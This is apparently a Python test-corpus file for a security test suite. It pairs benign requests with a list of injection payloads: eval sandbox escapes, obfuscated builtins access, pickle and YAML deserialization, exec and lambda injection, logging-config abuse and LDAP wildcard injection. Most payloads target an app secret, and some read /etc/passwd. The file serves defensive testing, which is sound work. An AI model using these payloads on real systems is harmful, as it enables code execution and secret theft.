"""Rules, jobs and settings in plain Python."""

import json
import pickle

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.sixteenth import (
    AWKWARD,
    GUESTS,
    HOWTO,
    HTML,
    PROGRAM,
    PROSE,
    REGEX,
    api,
    b64,
    binary,
    rule,
    sns,
    url,
)

NEEDS = ()
KEY = "tannery-secret-3517"


def _get(**query: str) -> dict[str, object]:
    return api("GET", "/", query=query)


def _post(**body: object) -> dict[str, object]:
    return api("POST", "/", body)


def _text(text: str, **query: str) -> dict[str, object]:
    return api("POST", "/", text, query=query)


def _session(data: bytes) -> dict[str, object]:
    return url(
        "GET",
        "/",
        cookies=["theme=it's", "session=" + b64(data).rstrip("=").replace("+", "-").replace("/", "_")],
    )


def _reduce(call: str) -> bytes:
    """A pickle that calls builtins' eval."""
    return b"cbuiltins\neval\n(V" + call.encode() + b"\ntR."


REQUESTS = {
    "price": [
        _post(formula="base * q * 1.19", q=3),
        _post(formula="round(base / 3, 2)"),
        _post(formula="min(base, 8) if q > 10 else base", q=12),
    ],
    "price_checked": [_post(formula=one) for one in ("2 * (q + 1)", "1/0", *AWKWARD[:3], "q**")],
    "price_words": [
        _post(formula=one) for one in ("math.sqrt(q) + 1", "q * 1.5 if q > 3 else 0", "math.ceil(q / 3)")
    ],
    "calculate": [_get(q=one) for one in ("2 * (3 + 4)", "-5/2", "2 x 3", "1;2", *AWKWARD[:2])],
    "literal": [
        _get(value=one) for one in ("{'a': [1, \"it's\"], 'b': None}", "(1, 2.5)", "n/a", AWKWARD[0])
    ],
    "job": [{"job": "hello", "with": {"name": one}} for one in AWKWARD]
    + [{"job": "repeat", "with": {"text": "it's; ", "times": "2"}}],
    "job_listed": [
        {"job": "hello", "with": {"name": GUESTS[0]}},
        {"job": "_purge", "with": {}},
        {"job": "repeat", "with": {"text": AWKWARD[2]}},
    ],
    "step": [
        {"step": "math.sqrt", "args": [16]},
        {"step": "statistics.mean", "args": [[1, 2, 6]]},
        {"step": "textwrap.shorten", "args": [PROSE, 40]},
    ],
    "step_listed": [
        {"step": "fold", "args": [AWKWARD[3]]},
        {"step": "median -- of all", "args": ["it's"]},
        {"step": "lcm", "args": [4, 6]},
    ],
    "settings": [
        _text("a: it's\nb: [1, 'x; y']\nc: {d: -- z}\n"),
        _text("text: |\n  SELECT * FROM t; rm -rf\n  {{ x }}\nwhen: 2026-01-01\n"),
    ],
    "settings_safe": [
        _text("a: &x [1, 2]\nb: *x\nc: it's -- ok\n"),
        _text("!Ref 'bucket; it''s --'"),
        _text("a: 'x\n"),
        _text(json.dumps({"t": HTML})),
    ],
    "settings_toml": [
        _text("a = \"it's\"\n[b]\nc = 1979-05-27T07:32:00Z\nd = '''x; -- \"y\"'''\n"),
        _text("a = it's"),
        _text("x = [1, 2]"),
    ],
    "session": [
        _session(pickle.dumps({"user": "o'hara", "cart": [1, "x; --"]}, 2)),
        url("GET", "/"),
        _session(pickle.dumps({"n": GUESTS[3], "t": PROSE}, 4)),
    ],
    "session_plain": [
        binary("/", b64(pickle.dumps({"a": [1, PROSE]}))),
        binary("/", b64(pickle.dumps({"when": REGEX, "n": None}))),
        binary("/", b64(pickle.dumps(("it's", 2.5)))),
    ],
    "record": [_post(name=one, note=HOWTO, grade="Z", __class__="x") for one in (*AWKWARD, GUESTS[4])],
    "record_code": [
        _post(
            fields=["name", "e-mail", "größe (cm)"], values={"name": PROSE, "e-mail": "o'hara@example.org"}
        ),
        _post(fields=["a b", "c.d"], values={"a b": PROGRAM}),
    ],
    "rule": [rule("R", {"field": "name", "value": one}) for one in ("o'goat", *AWKWARD)]
    + [rule("R", {"field": "kg", "op": ">=", "value": 4})],
    "rule_table": [
        rule("R", {"field": "name", "value": "o'goat"}),
        rule("R", {"field": "kg", "op": ">", "value": 4}),
        rule("R", {"field": "name", "op": "in", "value": ["calf", "'; --"]}),
    ],
    "query": [
        _get(q=one)
        for one in (
            "hides[?kg > `4`].name",
            "hides[?name == 'calf'] | [0]",
            'hides[].{n: name, "k g": kg}',
            "hides[?contains(tags, `it's`)]",
            "sort_by(hides, &kg)[-1].name",
            "x[?",
        )
    ],
    "matches": [_get(regex=one) for one in (REGEX, r"[A-Z]-(\d+)", r"o'\w+;", "(unclosed", r"\$\d|--", "")],
    "cron": [
        rule("C", {"cron": one, "label": PROSE})
        for one in ("*/15 9-17 * * 1-5", "cron(0 12 * * ? *)", "0,30 8 1 * *", "5/10 * ? * MON-FRI")
    ],
    "plan": [
        {"tasks": {"ship; it": ["pack 'x'"], "pack 'x'": ["-- tan"]}},
        {"tasks": {"a": ["b"], "b": ["a"]}},
    ],
    "dates": [
        _get(),
        _get(day="2026-02-28T10:00:00+01:00", plus="3", format="%d.%m.%Y -- it's %A"),
        _get(day="2024-02-01", format="%%Y; %j"),
    ],
    "logs": [
        sns({"loggers": {"app": {"level": "DEBUG"}, "app.o'db; x": {"level": "ERROR"}}}),
        sns({"loggers": {"urllib3": {"level": 30, "propagate": True}}}),
    ],
    "command": [
        _post(text=one)
        for one in ('/add "milk & eggs" 2', "/say it\\'s $HOME; `ls` | x", AWKWARD[0], AWKWARD[1], HOWTO)
    ],
    "directory": [
        _get(user="zoe"),
        _get(user="zo*", mode="safe"),
        _get(user="zoe (Sales)", mode="safe"),
        _get(user="o'hara -- x; y"),
    ],
    "money": [
        _text('{"amounts": [0.1, 0.2, 1e2], "note": "it\'s; --"}'),
        _text('{"amounts": [], "ratio": "2/6"}'),
    ],
    "table": [
        _text('name,kg\n"O\'Hara; x",5\n-- y,7\n'),
        _text("name,kg\ncalf,1\ngoat,2\n", f="median"),
        _text("name,kg\na,1\nb,9\n", f="stdev"),
    ],
}

ATTACKS = [
    Attack(
        "Python, eval", "price", _post(formula="__import__('os').popen('echo ran-$((6*7))').read()"), "ran-42"
    ),
    Attack("Python, eval", "price", _post(formula="(lambda: open('/etc/passwd').readline())()"), "root:"),
    Attack(
        "Python, eval",
        "price",
        _post(
            formula="[c.hello.__globals__ for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Jobs'][0]['SECRET']"
        ),
        KEY,
    ),
    Attack(
        "Python, words",
        "price_words",
        _post(formula="getattr(json, '_'+'_builtins_'+'_')['op'+'en']('/etc/passwd').read(40)"),
        "root:",
    ),
    Attack(
        "Python, words",
        "price_words",
        _post(formula="json.codecs.builtins.eval('_' '_imp' 'ort_' '_(\"app\").SECRET')"),
        KEY,
    ),
    Attack(
        "Python, escapes",
        "price_words",
        _post(formula="eval('\\x5f\\x5fimp\\x6frt\\x5f\\x5f(\"app\").SECRET')"),
        KEY,
    ),
    Attack(
        "Python, attributes",
        "price_words",
        _post(
            formula="json.ｃodecs.builtins.compile and json.codecs.ｂuiltins.vars(json.codecs.sys.modules['app'])['SECRET']"
        ),
        KEY,
    ),
    Attack("names, private", "job", {"job": "_purge"}, KEY),
    Attack("names, private", "job", {"job": "_purge", "with": {}}, "purged with"),
    Attack("imports", "step", {"step": "subprocess.getoutput", "args": ["echo ran-$((6*7))"]}, "ran-42"),
    Attack("imports", "step", {"step": "builtins.eval", "args": ["__import__('app').SECRET"]}, KEY),
    Attack("imports", "step", {"step": "linecache.getline", "args": ["/etc/passwd", 1]}, "root:"),
    Attack("imports", "step", {"step": "os.popen", "args": ["echo 1"]}, "os._wrap_close"),
    Attack(
        "YAML",
        "settings",
        _text("a: !!python/object/apply:subprocess.getoutput ['echo ran-$((6*7))']"),
        "ran-42",
    ),
    Attack("YAML", "settings", _text("a: !!python/name:app.SECRET\n"), KEY),
    Attack(
        "YAML",
        "settings",
        _text(
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:builtins.eval ['__import__(\"app\").SECRET']\n"
        ),
        KEY,
    ),
    Attack("pickle", "session", _session(_reduce("__import__('app').SECRET")), KEY),
    Attack(
        "pickle",
        "session",
        _session(b"\x80\x04\x8c\x0asubprocess\x8c\x09getoutput\x93\x8c\x0fecho ran-$((1))\x85R."),
        "ran-1",
    ),
    Attack("pickle", "session", _session(b"capp\nSECRET\n."), KEY),
    Attack("Python, exec", "record_code", _post(fields=["a': __import__('app').SECRET} #"]), KEY),
    Attack(
        "Python, exec",
        "record_code",
        _post(fields=["x", "y': (lambda: vars(__import__('app').Jobs))()['secret']}\n#"]),
        KEY,
    ),
    Attack(
        "Python, exec",
        "record_code",
        _post(fields=["q': 0}\nimport app\nmake = lambda v: {'s': app.SECRET}\n#"]),
        KEY,
    ),
    Attack(
        "Python, lambda",
        "rule",
        rule(
            "R",
            {
                "field": "name'] and print(row) or row.update(name=__import__('app').SECRET) or row['kg",
                "op": ">",
                "value": 0,
            },
        ),
        KEY,
    ),
    Attack(
        "Python, lambda",
        "rule",
        rule("R", {"field": "kg", "op": "!= row.__setitem__('name', SECRET) !=", "value": 9}),
        KEY,
    ),
    Attack(
        "logging",
        "logs",
        sns(
            {
                "handlers": {"h": {"()": "logging.NullHandler", ".": {"made": "cfg-made-1"}}},
                "loggers": {"z": {"handlers": ["h"]}},
            }
        ),
        "cfg-made-1",
    ),
    Attack(
        "logging",
        "logs",
        sns(
            {
                "handlers": {"h": {"()": "types.SimpleNamespace", "made": "ext://app.SECRET"}},
                "loggers": {"zz": {"handlers": ["h"]}},
            }
        ),
        KEY,
    ),
    Attack("LDAP", "directory", _get(user="*"), "tannery-pin-77"),
    Attack("LDAP", "directory", _get(user="*)(description=tannery*"), "tannery-pin-77"),
    Attack("names", "table", _text("name,kg\na,1\n", f="repeat"), "repeat("),
]
